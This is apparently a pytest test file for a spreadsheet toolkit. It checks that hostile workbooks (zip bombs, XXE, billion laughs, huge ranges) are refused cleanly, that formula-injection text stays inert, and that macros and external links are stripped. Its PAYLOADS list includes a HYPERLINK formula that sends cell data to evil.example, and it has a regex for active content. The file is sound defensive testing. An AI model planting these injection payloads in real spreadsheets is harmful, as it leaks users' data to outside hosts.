"""Hostile and broken workbooks get clear errors at bounded cost; nothing lost, nothing let in.

The corpus is generated at test time by `tests/workbook/hostile.py` (run it by hand to look at the files).
Every refusal runs the real command line in a child process whose address space is capped, and
checks the exit status, the one line naming the file and the cause, the time and the peak memory.
"""

from __future__ import annotations

import csv
import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from defusedxml import ElementTree
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image

from tests.workbook import hostile
from toolkit.kinds import write_workbook
from toolkit.kinds.soa.build import SHEET, new_soa
from toolkit.render import rows_csv
from toolkit.validation import validate
from toolkit.workbook.export import table_rows
from toolkit.workbook.guard import Limits, ReadError, inspect
from toolkit.workbook.guard.base import MAX_UNCALCULATED
from toolkit.workbook.merge import merge_into, uncarried
from toolkit.workbook.reader import read_workbook
from toolkit.workbook.schema import load_spec
from toolkit.workbook.writer import Book, Table, write_book

MAIN = hostile.MAIN


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[hostile.Case, Path]]:
    return hostile.generate(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def good(corpus: dict[str, tuple[hostile.Case, Path]]) -> Path:
    return next(iter(corpus.values()))[1].parent / "good.xlsx"


# --- 1, 2: refused with one line, in bounded time and memory --------------------------------


@pytest.mark.parametrize("name", [case.name for case in hostile.CASES])
def test_hostile_file_is_refused_in_one_line_within_bounds(corpus: dict[str, tuple[hostile.Case, Path]], name: str) -> None:
    case, path = corpus[name]
    result = hostile.run_bounded(["validate", str(path), *case.args])
    assert result.code == 2, (result.code, result.stdout[-500:], result.stderr[-2000:])
    assert "Traceback" not in result.stdout + result.stderr
    assert result.stderr == ""
    lines = result.stdout.splitlines()
    assert len(lines) == 2 and lines[0].startswith(f"{path}: error: "), lines
    assert lines[1].endswith("1 could not be read")
    assert re.search(case.expect, hostile.message(result, path)), lines[0]
    # Time: killed at run_bounded's hang guard; the 5 s target itself is measured by bench/run.py.
    assert result.peak_mb < hostile.MEMORY_MB, f"{name} peaked at {result.peak_mb:.0f} MB"


def test_the_used_range_bomb_is_two_kilobytes(corpus: dict[str, tuple[hostile.Case, Path]]) -> None:
    """A cell at A1 and one at XFD1048576: python-calamine would allocate 17 billion cells (550 GB)."""
    assert corpus["range"][1].stat().st_size < 2048


def test_a_file_at_the_cell_limit_is_read_within_the_bounds(tmp_path: Path) -> None:
    """The default limit fits the bounds: a sheet whose range from A1 is exactly the cell limit."""
    path = tmp_path / "at-limit.xlsx"
    path.write_bytes(hostile.sheets_at_limit(1))
    result = hostile.run_bounded(["validate", str(path)])
    assert result.code == 1 and "Traceback" not in result.stderr and "could not be read" not in result.stdout
    assert result.peak_mb < hostile.MEMORY_MB, result.peak_mb


def test_refusals_are_read_errors_through_the_api(corpus: dict[str, tuple[hostile.Case, Path]]) -> None:
    for name in ("range", "bomb-lying", "billion-laughs", "encrypted", "overlapping"):
        _case, path = corpus[name]
        with pytest.raises(ReadError) as info:
            read_workbook(path)
        assert info.value.path == str(path) and "\n" not in str(info.value)


def test_limits_are_adjustable(corpus: dict[str, tuple[hostile.Case, Path]]) -> None:
    """The same file passes the guard once its limit is raised by the flag's value."""
    path = corpus["cell-count"][1]
    with pytest.raises(ReadError, match="--max-cells"):
        inspect(path, Limits(max_cells=1000))
    inspect(path, Limits(max_cells=2000))


# --- readable, with a warning -----------------------------------------------------------------


@pytest.mark.parametrize("name", list(hostile.WARNINGS))
def test_notable_workbook_is_read_with_a_warning(good: Path, name: str) -> None:
    filename, _build, expect = hostile.WARNINGS[name]
    path = good.parent / filename
    report = validate([path]).files[0]
    assert report.error is None and report.kind == "soa"
    notices = [f.message for f in report.findings if f.code == "WB005"]
    assert any(re.search(expect, m) for m in notices), notices
    assert report.findings and {f.code for f in report.findings} - {"WB005"}  # still checked as usual


def test_macro_enabled_workbook_is_read_for_values_only(good: Path) -> None:
    path = good.parent / "macros.xlsm"
    assert inspect(path).format == "xlsm"
    book = read_workbook(path)
    assert len(book.records(SHEET)) == 93


def test_text_that_looks_numeric_stays_text(good: Path, tmp_path: Path) -> None:
    path = tmp_path / "numeric-text.xlsx"
    wb = openpyxl.load_workbook(good)
    ws = wb[SHEET]
    header = [c.value for c in ws[1]]
    ws.cell(2, header.index("Evidence Reference") + 1).value = "00123"
    ws.cell(2, header.index("Control Owner") + 1).value = "1e5"
    wb.save(path)
    record = read_workbook(path).records(SHEET)[0]
    assert record.get("Evidence Reference") == "00123"
    assert record.get("Control Owner") == "1e5"


def test_uncalculated_formula_is_reported_at_its_cell_never_read_as_a_value(good: Path, tmp_path: Path) -> None:
    path = tmp_path / "uncalculated.xlsx"
    path.write_bytes(hostile.uncalculated(good.read_bytes(), "D2"))
    report = validate([path]).files[0]
    wb006 = [(f.sheet, f.cell, f.severity) for f in report.findings if f.code == "WB006"]
    assert wb006 == [(SHEET, "D2", "error")]
    assert read_workbook(path).records(SHEET)[0].get("Applicable") is None


def test_uncalculated_cells_map_to_sheet_names_and_cells_without_r(tmp_path: Path) -> None:
    """Sheet parts are named through the workbook and its relationships; cells without `r` are placed."""
    sheet = hostile.sheet_xml('<row r="3"><c r="A3"><v>1</v></c><c><f>A3*2</f></c><c t="str"><f>""</f><v></v></c></row>')
    parts = hostile.workbook_parts(sheet, target="worksheets/data.xml")
    parts["xl/workbook.xml"] = str(parts["xl/workbook.xml"]).replace('name="Sheet1"', 'name="Données &amp; co"')
    path = tmp_path / "named.xlsx"
    path.write_bytes(hostile.package(parts))
    assert inspect(path).uncalculated == [("Données & co", "B3")]


def test_a_flood_of_uncalculated_formulas_is_capped(tmp_path: Path) -> None:
    cells = "".join(f'<row r="{r}"><c r="A{r}"><f>1+1</f></c></row>' for r in range(1, MAX_UNCALCULATED + 501))
    path = tmp_path / "flood.xlsx"
    path.write_bytes(hostile.workbook(cells))
    info = inspect(path)
    assert len(info.uncalculated) == MAX_UNCALCULATED
    assert any(f"{MAX_UNCALCULATED + 500:,} formula cells" in w for w in info.warnings)


def test_hidden_and_very_hidden_sheets_are_each_named(good: Path, tmp_path: Path) -> None:
    text = zipfile.ZipFile(good).read("xl/workbook.xml").decode()
    text = text.replace('<sheet name="Document Control"', '<sheet name="Document Control" state="veryHidden"')
    path = tmp_path / "very-hidden.xlsx"
    path.write_bytes(hostile.with_parts(good.read_bytes(), replace={"xl/workbook.xml": text}))
    assert "sheet 'Document Control' is hidden; it was read like any other sheet" in read_workbook(path).notices


def test_good_workbooks_pass_the_guard_untouched(good: Path) -> None:
    info = inspect(good)
    assert (info.format, info.warnings, info.uncalculated) == ("xlsx", [], [])


# --- 3: keep going ----------------------------------------------------------------------------


def test_a_refused_file_does_not_stop_the_others(corpus: dict[str, tuple[hostile.Case, Path]], good: Path) -> None:
    bomb = corpus["bomb-ratio"][1]
    result = hostile.run_bounded(["validate", str(good), str(bomb)])
    assert result.code == 2 and "Traceback" not in result.stderr
    lines = result.stdout.splitlines()
    assert any(line.startswith(f"{good}:{SHEET}!D2: SOA004 error") for line in lines)
    assert [line for line in lines if line.startswith(f"{bomb}:")] == [f"{bomb}: error: {hostile.message(result, bomb)}"]
    assert lines[-1].startswith("2 files checked: 95 errors") and lines[-1].endswith("1 could not be read")


def test_validate_api_reports_every_file(corpus: dict[str, tuple[hostile.Case, Path]], good: Path) -> None:
    paths = [corpus["range"][1], good, corpus["truncated"][1], corpus["xxe"][1]]
    report = validate(paths)
    assert [bool(f.error) for f in report.files] == [True, False, True, True]
    assert report.files[1].kind == "soa" and report.files[1].errors == 95
    assert report.exit_code == 2


# --- 4: nothing let in ------------------------------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-1+2", "@SUM(1,1)", "\t=1+1", "\r=2+2"]


def _client_with_payloads(good: Path, path: Path) -> Path:
    """A returned SoA whose client typed formula-looking text (stored as text) into cells and a sheet."""
    wb = openpyxl.load_workbook(good)
    ws = wb[SHEET]
    header = [c.value for c in ws[1]]
    for row, text in enumerate(PAYLOADS, start=2):
        for column in ("Justification", "Control Owner"):
            cell = ws.cell(row, header.index(column) + 1)
            cell.value = text
            cell.data_type = "s"
    notes = wb.create_sheet("Client notes")
    for row, text in enumerate(PAYLOADS, start=1):
        notes.cell(row, 1).value = text
        notes.cell(row, 1).data_type = "s"
    wb.save(path)
    assert "<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    return path


def _strings_and_formulas(path: Path) -> tuple[list[str], list[str]]:
    """Every string cell's text and every formula in a package."""
    with zipfile.ZipFile(path) as zf:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in zf.namelist():
            root = ElementTree.fromstring(zf.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{MAIN}}}t")) for si in root]
        texts: list[str] = []
        formulas: list[str] = []
        for name in zf.namelist():
            if not name.startswith("xl/worksheets/sheet"):
                continue
            for c in ElementTree.fromstring(zf.read(name)).iter(f"{{{MAIN}}}c"):
                f = c.find(f"{{{MAIN}}}f")
                if f is not None:
                    formulas.append(f.text or "")
                v = c.find(f"{{{MAIN}}}v")
                if c.get("t") == "s" and v is not None:
                    texts.append(shared[int(v.text or 0)])
                elif c.get("t") == "inlineStr":
                    texts.append("".join(t.text or "" for t in c.iter(f"{{{MAIN}}}t")))
    return texts, formulas


def test_client_text_never_becomes_a_formula_in_a_workbook(good: Path, tmp_path: Path) -> None:
    client = _client_with_payloads(good, tmp_path / "client.xlsx")
    old = read_workbook(client)
    out = tmp_path / "written.xlsx"
    book = Book(tables={SHEET: Table([r.values for r in old.records(SHEET)])})
    write_book(load_spec("soa"), book, out)
    merged = tmp_path / "merged.xlsx"
    fresh = new_soa("Example Ltd")
    merge_into(fresh, "soa", client)
    write_workbook("soa", fresh, merged, "Example Ltd")
    summary = re.compile(rf"^(COUNTIFS?\('{SHEET}'!\$[A-Z]+:\$[A-Z]+,.*\)|B\d+\+B\d+)$")
    for path in (out, merged):
        texts, formulas = _strings_and_formulas(path)
        # The only formulas are the Summary's own counts over the SoA: none came from client text.
        assert [f for f in formulas if not summary.match(f)] == []
        for text in PAYLOADS:
            assert text.strip() in texts, (path.name, text)
    assert [c.value for c in openpyxl.load_workbook(merged)["Client notes"]["A"]][:2] == PAYLOADS[:2]


def test_client_text_is_quoted_in_csv(good: Path, tmp_path: Path) -> None:
    client = _client_with_payloads(good, tmp_path / "client.xlsx")
    header, rows = table_rows(client)
    records = list(csv.DictReader(io.StringIO(rows_csv(header, rows))))
    for record, text in zip(records, PAYLOADS, strict=False):
        for column in ("Justification", "Control Owner"):
            assert record[column] == "'" + text.strip()
    result = hostile.run_bounded(["export", str(client), "--format", "csv"])
    assert result.code == 0 and f"'{PAYLOADS[1]}" in result.stdout and f"'{PAYLOADS[3]}" in result.stdout


def _active_content(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as zf:
        found = [n for n in zf.namelist() if re.search(r"vbaproject|externallink|macrosheet|activex|embeddings", n.lower())]
        for name in zf.namelist():
            text = zf.read(name).decode("utf-8", errors="replace")
            if name.endswith(".rels") and 'TargetMode="External"' in text:
                found.append(f"{name}: external target")
            found.extend(f"{name}: {m}" for m in re.findall(r"macroEnabled|externalLink|<externalReferences", text))
    return found


def test_no_output_carries_macros_or_external_links(good: Path, tmp_path: Path) -> None:
    client = tmp_path / "client.xlsm"
    client.write_bytes(hostile.external_link(hostile.macro_enabled(good.read_bytes())))
    assert _active_content(client)  # the check sees them when they are there
    merged = tmp_path / "merged.xlsx"
    book = new_soa("Example Ltd")
    notes = merge_into(book, "soa", client).notes
    write_workbook("soa", book, merged, "Example Ltd")
    assert any("macros" in n and "external links" in n for n in notes)
    assert _active_content(merged) == []
    assert _active_content(good) == []


# --- 5: nothing lost --------------------------------------------------------------------------


def tiny_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x1f\x38\x64")) + chunk(b"IEND", b"")
    )


class Png(Image):
    """openpyxl's Image, without needing Pillow to measure a 1x1 PNG."""

    def __init__(self, data: bytes) -> None:
        self.ref = io.BytesIO(data)
        self.data = data
        self.width = self.height = 1
        self.format = "png"

    def _data(self) -> bytes:
        return self.data


SPARKLINES = (
    '<extLst><ext uri="{05C60535-1F16-4fd2-B633-F4F36F0B64E0}" '
    'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
    '<x14:sparklineGroups xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
    "<x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>Data!A1:A3</xm:f><xm:sqref>B1</xm:sqref>"
    "</x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>"
)


def _features(path: Path, *features: str) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Data"
    for r in range(1, 4):
        ws.cell(r, 1, r)
    ws["C1"] = "plain"
    if "image" in features:
        ws.add_image(Png(tiny_png()), "D2")
    if "comment" in features:
        ws["A1"].comment = Comment("Where is the evidence?", "Auditor")
    if "chart" in features:
        chart = BarChart()
        chart.add_data(Reference(ws, min_col=1, min_row=1, max_row=3))
        ws.add_chart(chart, "F2")
    if "inline rich text" in features:
        ws["C2"] = CellRichText([TextBlock(InlineFont(b=True), "bold"), " plain"])
    wb.save(path)
    replace: dict[str, str | bytes] = {}
    add: dict[str, str | bytes] = {}
    parts = {n: zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    if "sparklines" in features:
        sheet = sheet.replace("</worksheet>", SPARKLINES + "</worksheet>")
    if "rich text" in features:
        add["xl/sharedStrings.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="1" uniqueCount="1"><si>'
            '<r><rPr><b/></rPr><t>Bold</t></r><r><t xml:space="preserve"> and plain</t></r></si></sst>'
        )
        sheet = re.sub(r'<c r="C1" t="inlineStr"><is><t>plain</t></is></c>', '<c r="C1" t="s"><v>0</v></c>', sheet)
        replace["[Content_Types].xml"] = (
            parts["[Content_Types].xml"]
            .decode()
            .replace(
                "</Types>",
                '<Override PartName="/xl/sharedStrings.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
            )
        )
        replace["xl/_rels/workbook.xml.rels"] = (
            parts["xl/_rels/workbook.xml.rels"]
            .decode()
            .replace(
                "</Relationships>",
                f'<Relationship Id="rIdS" Type="{hostile.DOC_RELS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
            )
        )
    replace["xl/worksheets/sheet1.xml"] = sheet
    path.write_bytes(hostile.with_parts(path.read_bytes(), replace=replace, add=add))
    return path


LOST = {
    "image": "images",
    "comment": "cell comments",
    "chart": "drawings, shapes or charts",
    "rich text": "rich text formatting inside cells",
    "inline rich text": "rich text formatting inside cells",
    "sparklines": "sparklines",
}


@pytest.mark.parametrize("feature", list(LOST))
def test_what_a_rewrite_cannot_carry_is_named(tmp_path: Path, feature: str) -> None:
    path = _features(tmp_path / f"{feature}.xlsx", feature)
    inspect(path)  # a legitimate workbook: the guard lets it through
    assert LOST[feature] in uncarried(path)
    assert uncarried(_features(tmp_path / "plain.xlsx")) == []


def test_a_workbook_with_everything_names_everything(tmp_path: Path) -> None:
    path = _features(tmp_path / "all.xlsx", *LOST)
    assert set(uncarried(path)) == set(LOST.values())
